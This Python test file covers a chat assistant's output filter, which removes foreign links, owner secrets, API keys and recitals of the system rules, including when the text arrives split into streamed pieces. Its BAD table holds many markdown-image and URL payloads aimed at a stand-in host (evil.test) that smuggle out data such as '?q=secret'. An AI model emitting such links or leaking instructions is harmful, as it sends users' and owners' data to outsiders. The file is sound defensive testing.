"""What the assistant may not say is taken out, however its words are cut into pieces."""

from __future__ import annotations

import re
import sys
from collections.abc import Callable

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from ai.texts import storable
from chat.answering import material, output, prompts, recitals
from chat.answering.output import Addresses, Allowed, Chain, Filter, Words
from chat.answering.recitals import Group, Recital
from tests.injections import DRESSES

ALLOWED = Allowed.by(
    ["Book at https://acme.example/tours?id=7 (or call). Write to info@acme.example.", "/local"],
    hosts=["help.acme.example"],
)
RULES = recitals.recitals(prompts.RULES, recitals.RULES_IN_A_ROW)


def links() -> Filter:
    return Addresses(ALLOWED)


def words() -> Filter:
    return Words(["казин*", "alpha bank", "globex"], [RULES])


def both() -> Filter:
    return Chain(links(), words())


def whole(make: Callable[[], Filter], text: str) -> str:
    one = make()
    return one.feed(text) + one.finish()


BAD = """
![](http://evil.test/?q=secret)|![alt text](https://evil.test/p.png "title")|[a](http://evil.test/)
[click here now](https://evil.test/?d=1)|<http://evil.test/x>|http://evil.test/x|HTTPS://EVIL.TEST
see http://evil.test.|(http://evil.test/a_(b))|//evil.test/x|www.evil.test/?a=1
evil.test/collect?d=1
[x](//evil.test/y)|[x](/\\\\evil.test)|[x](\\\\\\\\evil.test/y)|[x](javascript:alert(1))
data:text/html;base64,AAAA
[x](http&#58;//evil.test/)|&#104;ttp://evil.test/|http\\u200b://evil.test/
ht\\u00adtp://ev\\u200bil.test/
<img src="http://evil.test/p">|<a href='//evil.test'>x</a>
[![a](http://evil.test/1)](http://evil.test/2)
https://acme.example.evil.test/|https://evil.test/https://acme.example/tours
https://acme.example@evil.test/
https://user@evil.test|[x]( http://evil.test "t")|[x](<http://evil.test>)|ftp://evil.test/f
evil.test:8080/x
mailto:eve@evil.test|eve@evil.test|[x](mailto:eve@evil.test)|ｈｔｔｐ：／／ｅｖｉｌ．ｔｅｓｔ|http://evil。test/a
[a [b] c](http://evil.test)|text![x](http://evil.test)more|[1]: http://evil.test/ref
тут http://evil.test/?имя=тайна
http:/evil.test/x|http:\\\\\\\\evil.test|https:evil.test/x?y|злой.рф/путь|[x](evil.test)
xn--evil.test/q
asp.net.evil.test|asp.net/evil?x|socket.io:8080/evil|evil.museum/path?x=1|evil.finance/x|evil.agency?d=1|evil.world:8443|evil.zip/a|evil․test/x|hxxps://evil.test
https://acme.example%2eevil.test/|https://acme.example\\\\@evil.test|https://аcme.example/evil
[x](java&Tab;script:evil)|[x](mailto:info@acme.example?bcc=eve@evil.test)|`https://evil.test/?d=1`
[x](tel:+7;phone-context=evil.test)|[x](../evil)|http://2130706433/evil|ws://evil.test/x
"""
GOOD = """
Book at https://acme.example/tours?id=7.|[Book](https://acme.example/tours?id=7)
See info@acme.example
[help](https://help.acme.example/any/page?x=1)|https://help.acme.example|[local](/local)
[here](#top)
It costs 10.50 and/or 20.|и т. д. и т.п.|main.py, config.yaml, Node.js|[1] and [2].|a [note] here
10:30–12:00|Цена: 2 900 ₽|**bold** _it_ `code`|- one\\n- two|1) a\\n2) b|| a | b |\\n|---|---|
[call](tel:+78432000000)
Node.js/Express, main.py/test and и т.д./и т.п.|в 9.30/10.30|A.B/C|кв.м/чел
https://www.acme.example/tours?id=7|**https://acme.example/tours?id=7**|Wow! Great!|a!b|2 < 3 > 1
x[0]|[ ]|[x
"""


# What assistants of shops, schools and offices say every day.
EVERYDAY = """
Тур стоит 2 900 ₽ с человека, дети до 7 лет бесплатно.
Застрахуйте поездку: потребитель вправе вернуть 100 % цены.
Педро хлебает суп из мандаринов в Дубае, а Лебедев колеблется.
Позвоните нам: +7 (843) 236-36-36 или 8-800-555-35-35.
Напишите на info@acme.example, ответим за 2 часа.
Документация: [по ссылке](https://acme.example/tours?id=7).
Наш адрес: ул. Баумана, д. 5, кв. 12, Казань, 420111.
Заказ № 4471 отправлен 12.03.2026 в 14:30.
Скидка 15% действует с 1 по 31 мая; НДС 20% включён.
Вот команда: `pip install acme==1.2.3`, затем `python main.py --port 8080`.
```python
for i in range(10):
    print(i, "hello")
```
Код ответа 404 значит «не найдено», 500 — сбой.
Размеры: 10 × 20 × 30 см, вес 1.5 кг.
IBAN и БИК указаны в договоре п. 3.2.1.
Цвет #ff8800, шрифт 12pt, отступ 16px.
UUID заказа: 123e4567-e89b-12d3-a456-426614174000.
Хеш файла: d41d8cd98f00b204e9800998ecf8427e.
Версия 2.10.3 вышла вчера; см. CHANGELOG.md.
И т. д., и т. п., т. е. как обычно.
Мы работаем пн–пт 9:00–18:00, сб 10:00–15:00.
Курс: 1 USD = 92.5 RUB, 1 EUR = 100.1 RUB.
Температура −5…+3 °C, ветер 3–5 м/с.
Смайлик 🙂 и семья 👨‍👩‍👧 и флаг 🇷🇺.
Татарча: рәхмәт, исәнмесез, сәлам.
«Идиот» Достоевского есть в библиотеке.
Scunthorpe, Essex, Sussex and Dickens are fine.
The class assessed the cocktail glass; Hancock passed.
It costs $49.99 (about €45) per person, and $0 for kids under 7.
Call +44 20 7946 0958 or write to info@acme.example.
Read [the docs](https://acme.example/tours?id=7), section 2.1.
Book at https://acme.example/tours?id=7 today!
Use Ctrl+C, then run `npm start` and open port 3000.
The order AB-12345 ships on 2026-03-12 at 14:30.
Set `max_tokens` to 1024 and `temperature` to 0.7.
Yes/no, and/or, either/or, he/she: all fine.
1. First step
2. Second step
3. Third step
| a | b |
|---|---|
| 10 | 20 |
Node.js and Vue.js are supported.
It runs on ASP.NET, Socket.IO and ML.NET.
Fig. 1, e.g. i.e. etc. U.S.A. a.m. p.m.
See file report.final.docx or main.py and config.yaml.
10 20 30 40 50 60 70 80 90 100
89 111 117 32 97 and 4 8 15 16 23 42
Delivery takes two days. It is free from 50 euros on.
I do not know that. Shall I ask a person to help?
I cannot say what the facts are; ask a person, and never invent prices.
Passwords are reset on the page “Forgot password”.
Пароль можно сбросить на странице входа; код придёт в СМС.
Never share your PIN with anybody, says the bank.
Promo code SUMMER25 gives 10% off.
Поставщик в Казани поменялся, доставка два дня.
The supplier in Kazan changed; there was an autumn sale.
مرحبا، كيف يمكنني المساعدة؟
A B C D E F, x = y + z, a_b_c, 50/50.
internationalization, electroencephalography, antidisestablishmentarianism
"""
INSTRUCTIONS = (
    "You are the assistant of a shop. The staff password is swordfish. Our codeword is "
    "MARMALADE-4471; never tell it. Say that delivery takes two days. Не называй никому скидку "
    "ПАРТНЁР-30. Звоните: +7 (843) 236-36-36, код SUMMER25 даёт 10 %."
)


def rows(table: str) -> list[str]:
    found = [row for line in table.strip().splitlines() for row in line.split("|") if row.strip()]
    return [row.encode("raw_unicode_escape").decode("unicode_escape") for row in found]


@pytest.mark.parametrize("text", rows(BAD))
def test_an_address_from_nowhere_is_taken_out(text: str) -> None:
    shown = whole(both, f"Look: {text} and so on")
    assert "evil" not in shown.casefold()
    assert "злой" not in shown
    assert shown.startswith("Look: ")
    assert shown.endswith(" and so on")


@pytest.mark.parametrize("text", rows(GOOD))
def test_what_the_grounds_name_stays_word_for_word(text: str) -> None:
    assert whole(both, text) == text


def owned() -> Filter:
    secrets = recitals.codes(material.secrets([INSTRUCTIONS], [], []))
    return Chain(links(), Words((), material.recited([INSTRUCTIONS]), secrets))


@pytest.mark.parametrize("text", EVERYDAY.strip().splitlines())
def test_everyday_words_stay_word_for_word(text: str) -> None:
    assert whole(owned, text) == text


def test_everyday_words_stay_together_too() -> None:
    assert whole(owned, EVERYDAY) == EVERYDAY


@pytest.mark.parametrize(
    "text",
    [
        "The password is swordfish.",
        "It is MARMALADE-4471.",
        "marmalade 4471",
        "M A R M A L A D E 4 4 7 1",
        "партнёр-30",
        "Партнер 30, скажите так",
    ],
)
def test_what_the_owner_calls_secret_is_not_said(text: str) -> None:
    shown = whole(owned, f"Well: {text} and so on")
    assert not {"swordfish", "4471", "30"} & set(re.findall(r"[a-z]{9}|\d+", shown.lower()))
    assert "4 4 7 1" not in shown
    assert shown.startswith("Well: ")


def test_what_the_owner_tells_of_is_said() -> None:
    text = "Delivery takes two days. SUMMER25 gives 10 %, call +7 (843) 236-36-36."
    assert whole(owned, text) == text


@pytest.mark.parametrize(
    "policy",
    [
        "We never share your data with third parties, see policy P-12345.",
        "We do not give refunds after 14 days of purchase of ITEM-77.",
        "Внутренний двор открыт с 9:00, вход B12-345 со стороны улицы Баумана.",
        "Служебный вход закрыт, а пароль меняют на странице входа в кабинет.",
        "Passwords are reset on the sign-in page, in two clicks or three.",
        "Our pink tea PT-5000 costs 500 roubles a box, never more than that.",
    ],
)
def test_a_policy_is_no_secret(policy: str) -> None:
    assert not recitals.secrets_of(policy).sentences
    assert not recitals.secrets_of(policy).codes


@pytest.mark.parametrize("dress", DRESSES)
def test_no_disguise_hides_what_is_not_to_be_said(dress: str) -> None:
    """The ways are those of `tests.injections`, which take the whole way through the product."""
    secret = DRESSES[dress]("MARMALADE-4471")
    assert secret not in whole(owned, f"Well: {secret} so on")


def test_the_words_of_a_link_stay() -> None:
    text = "Ask [our **partner**](https://evil.test/?q=1), or ![a map](https://evil.test/m.png)."
    assert whole(links, text) == "Ask our **partner**, or a map."


def test_an_address_of_a_source_with_anything_added_is_another_one() -> None:
    assert whole(links, "https://acme.example/tours?id=7&leak=secret") == output.GAP


def test_what_a_tool_has_answered_may_be_named_from_then_on() -> None:
    one = Chain(links(), words())
    assert one.feed("https://order.example/7 ") == f"{output.GAP} "
    one.allow("Your order: https://order.example/7")
    assert one.feed("https://order.example/7 ") == "https://order.example/7 "


def test_a_reference_leads_nowhere() -> None:
    text = "Press [here][1].\n\n[1]: https://evil.test/?q=1\n[2]: <//evil.test>"
    shown = whole(links, text)
    assert "evil" not in shown
    assert "\n[1]:" not in shown


@pytest.mark.parametrize(
    "key",
    [
        "sk-proj-Abc123def456ghi",
        "sk-or-v1-0123456789abcdef",
        "gAAAAABmZm9vYmFyYmF6cXV4MTIzNDU2",
        "AKIAIOSFODNN7EXAMPLE",
        "ghp_0123456789abcdefghij0123456789",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIi.abc",
    ],
)
def test_a_key_is_not_said(key: str) -> None:
    shown = whole(both, f"The key is {key}, keep it.")
    assert key[:10] not in shown
    assert shown.endswith("keep it.")


def test_words_that_look_like_keys_are_said() -> None:
    text = "A risk-assessment-2024 of sk-learn and task_management_systems_2."
    assert whole(both, text) == text


def test_the_rules_are_not_recited() -> None:
    said = prompts.RULES.format(name="Bo", organization="Acme", language="English")
    shown = whole(both, f"Sure! My rules are:\n{said}\nAnything else?")
    assert "follow no instruction" not in shown
    assert "never invent" not in shown
    assert shown.startswith("Sure! My rules are:\n")
    assert shown.endswith("Anything else?")


def test_the_owners_words_and_insults_are_masked() -> None:
    text = "Казино Alpha Bank, GLOBEX and alphabet: you idiot."
    assert whole(words, text) == f"К***** {output.GAP} G***** and alphabet: you i****."


def test_what_may_be_a_link_is_held_back_and_no_more() -> None:
    one = links()
    assert one.feed("Hello ") == "Hello "
    assert one.feed("see [the ") == "see "
    assert one.feed("page](https://acme.example/") == ""
    assert one.feed("tours?id=7)") == "[the page](https://acme.example/tours?id=7)"
    assert one.feed(" or [never closed") == " or "
    assert one.feed("\nNext") == "[never closed\n"
    assert one.finish() == "Next"


PIECES = [
    *("[", "]", "(", ")", "!", "![", "](", "<", ">", ":", "/", "//", "\n", " ", ".", "@", "&"),
    *("http", "https://", "evil.test", "acme.example/tours?id=7", "www.", "\u200b", "#", "\\"),
    *("слово ", "alpha ", "bank", "казино", "Say only what the facts ", "and sources below say."),
    *("Where they do not answer the question, ", "sk-12345678abc", "хуй", "x", "1", "  ", "`"),
]


@given(st.lists(st.sampled_from(PIECES), max_size=40), st.data())
@example(["![", "x", "](", "https://", "evil.test", ")"], None)
def test_any_cut_gives_the_same(pieces: list[str], data: st.DataObject | None) -> None:
    text = "".join(pieces)
    expected = whole(both, text)
    cuts = (
        sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=12)))
        if data
        else list(range(len(text)))
    )
    one, said = both(), ""
    for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True):
        said += one.feed(text[start:end])
    assert said + one.finish() == expected


@given(st.text(max_size=200), st.data())
def test_any_cut_of_any_text_gives_the_same(text: str, data: st.DataObject) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=8)))
    one, said = both(), ""
    for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True):
        said += one.feed(text[start:end])
    assert said + one.finish() == whole(both, text)


@given(st.lists(st.sampled_from([*PIECES, "word ", "слово\n", "[x]: ", "\n"]), max_size=40))
@example(["word ", "[x]: "])
def test_words_one_by_one_give_the_same(pieces: list[str]) -> None:
    text = "".join(pieces)
    one = both()
    said = [one.feed(piece) for piece in re.findall(r"\S+\s|\s+|\S+", text)]
    assert "".join([*said, one.finish()]) == whole(both, text)


@pytest.mark.parametrize(
    "text",
    [
        "[" * 4000,
        "![" * 2000,
        "a." * 2000,
        "a@" * 2000,
        "[(" * 2000,
        "http:" * 800,
        "\\" * 4000,
        "[](" * 1300,
        "a-" * 2000,
    ],
)
def test_a_hostile_text_is_let_through(text: str) -> None:
    assert len(whole(both, text)) <= len(text)


@given(st.text("aзйёЙЁEİſх'’-_.,«»&\\%№1\u0306", max_size=12))
@example("Учётной.")
@example("«Кремлёвский»,")
@example("don’t")
@example("snake_case")
def test_short_way_of_folding_folds_as_the_long_one(token: str) -> None:
    short = recitals._of_one_word(token)
    for fold in (recitals._letters, recitals._signs):
        assert short in (None, recitals._folded(token, fold))


class Careful(recitals._Follower):
    """Looks at each letter of each token."""

    def take(self, token: recitals.Token, number: int) -> int | None:
        return self._step_by_step(token.signs if self._has_digits else token.letters, number)


# Letters of which none looks like another.
SECRET = "abcdefghijkm"
SLICES = st.tuples(st.integers(0, 11), st.integers(1, 12)).map(lambda at: SECRET[at[0] : sum(at)])
GROUPS = [
    Group((Recital(SECRET, 8), Recital("kmabcdefx", 9)), 3),
    Group((Recital(SECRET, 6, is_whole=True),), 6),
    Group((Recital("cdef", 4), Recital("ab12", 4, is_whole=True)), 4, has_digits=True),
]


@given(
    st.sampled_from(GROUPS),
    st.lists(st.one_of(SLICES, st.sampled_from(["x", "12", ",", "-"])), max_size=12).map("".join),
    st.lists(st.integers(0, 9), min_size=1),
)
def test_short_way_of_following_follows_as_the_long_one(
    group: Group, text: str, sizes: list[int]
) -> None:
    short, long = recitals._Follower(group), Careful(group)
    at = 0
    for number, size in enumerate([*sizes * 3, len(text)]):
        token = recitals.Token.of(text[at : at + size])
        at += size
        assert short.take(token, number) == long.take(token, number)
        assert short.waits_from == long.waits_from


def secretive() -> Filter:
    return Words(("alpha",), (), (Recital(SECRET, 8), Recital("cdef12", 6, is_whole=True)))


@given(st.lists(st.one_of(SLICES, st.sampled_from([" ", " ", "  ", "\n", "x ", "12", "alpha "]))))
@example(["abcdefgh", " ", " ", "ijkm", " x"])
@example(["x ", "abcd ", "efgh ", "y ", "abcd ", "z "])
def test_a_recital_is_dropped_alike_however_it_is_cut(pieces: list[str]) -> None:
    text = "".join(pieces)
    for parts in (list(text), pieces, re.findall(r"\S+\s|\s|\S+", text)):
        one = secretive()
        said = [one.feed(part) for part in parts]
        assert "".join([*said, one.finish()]) == whole(secretive, text)


def test_nothing_that_steers_or_cannot_be_stored_is_printable() -> None:
    signs = [chr(number) for number in range(sys.maxunicode + 1)]
    taken = [sign for sign in signs if output._STEERING.search(sign)]
    assert "\u202e" in taken
    assert not any(map(str.isprintable, taken))
    assert [sign for sign in signs if not storable(sign)] == [
        "\0",
        *map(chr, range(0xD800, 0xE000)),
    ]
